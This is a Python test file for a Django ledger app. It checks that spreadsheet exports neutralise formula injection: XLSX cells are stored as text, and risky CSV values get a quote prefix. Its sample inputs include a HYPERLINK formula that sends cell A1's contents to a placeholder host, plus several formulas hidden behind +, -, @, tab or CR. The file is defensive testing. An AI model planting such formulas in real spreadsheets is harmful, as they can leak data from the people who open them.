"""People's text in the office's spreadsheets is text, never a formula: the ledger's XLSX read back with openpyxl
(every such cell a string, its text intact), its CSV with a quote before what a spreadsheet would read as a formula,
numbers still numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from processes.models import Assignment, Plan, Report, Unit, User
from processes.services.ledger import ledger_as_of
from processes.services.lifecycle import assignment_report
from processes.spreadsheets import csv_bytes, xlsx_append

from ..conftest import ImportFile
from .test_rounds import at

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x?"&A1,"click")'
# What a reporter may type (the services strip spaces around a report, so a leading tab or CR comes in some other
# way, and is written into the report below): each would be a formula, or hide one, in Excel or WPS.
TEXTS = (HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
TITLE = "=1+1"
PLAN_CSV = "序号,任务,责任单位,完成时限\n" + "".join(
    f"{number},任务{number},松原市生态环境局,12月31日\n" for number in range(1, len(TEXTS) + 1)
)


@pytest.fixture
def ledger(units: dict[str, Unit], import_file: ImportFile, reporter: User, supervisor: User):
    with at("2023-07-01 09:00"):
        assert import_file(PLAN_CSV.encode(), filename="plan.csv", title=TITLE).applied
    plan = Plan.objects.get(year=2023)
    with at("2023-08-01 10:00"):
        for number, text in enumerate(TEXTS, start=1):
            item = Assignment.objects.get(task__plan=plan, task__number=str(number))
            assignment_report(assignment=item, by=reporter, text=text.strip() or text)
            # The text exactly as typed, leading tab or CR included.
            Report.objects.filter(assignment=item).update(text=text)
    with at("2023-08-02 09:00"):
        return ledger_as_of(plan, supervisor)


def test_the_ledger_spreadsheet_writes_reports_and_titles_as_text(ledger) -> None:
    from processes.services.exports import ledger_xlsx

    sheet = openpyxl.load_workbook(io.BytesIO(ledger_xlsx(ledger))).active
    title = sheet["A1"]
    assert title.data_type == "s" and str(title.value).startswith(TITLE)
    latest = {cells[0].value: cells[7] for cells in sheet.iter_rows(min_row=4)}
    for number, text in enumerate(TEXTS, start=1):
        cell = latest[str(number)]
        assert (cell.data_type, cell.value) == ("s", text), number
    # No formula anywhere in the sheet.
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_ledger_csv_neutralises_what_a_spreadsheet_would_read_as_a_formula(ledger) -> None:
    from processes.services.exports import ledger_csv

    rows = list(csv.reader(io.StringIO(ledger_csv(ledger).decode("utf-8-sig"), newline="")))
    latest = {row[0]: row[7] for row in rows[1:]}
    assert [latest[str(number)] for number in range(1, len(TEXTS) + 1)] == [
        "'" + HYPERLINK,
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
    ]
    # Text that is no formula is left alone.
    assert rows[1][1] == "任务1" and rows[1][4] == "松原市生态环境局"


def test_numbers_and_dates_keep_their_types() -> None:
    import datetime as dt

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    xlsx_append(sheet, [-5, -2.5, dt.date(2023, 9, 4), None, "-5", "#N/A", "text\x01with a control character"])
    out = io.BytesIO()
    workbook.save(out)
    cells = next(openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [(cell.data_type, cell.value) for cell in cells[:2]] == [("n", -5), ("n", -2.5)]
    assert cells[2].is_date and cells[2].value.date() == dt.date(2023, 9, 4)
    assert cells[3].value is None
    assert [(cell.data_type, cell.value) for cell in cells[4:]] == [
        ("s", "-5"),
        ("s", "#N/A"),  # openpyxl alone writes an error cell
        ("s", "textwith a control character"),  # openpyxl alone refuses the whole workbook
    ]
    # In a CSV a number typed as a number is written bare; the same characters as text are neutralised.
    assert csv_bytes([[-5, "-5", 3]]).decode("utf-8-sig") == "-5,'-5,3\r\n"
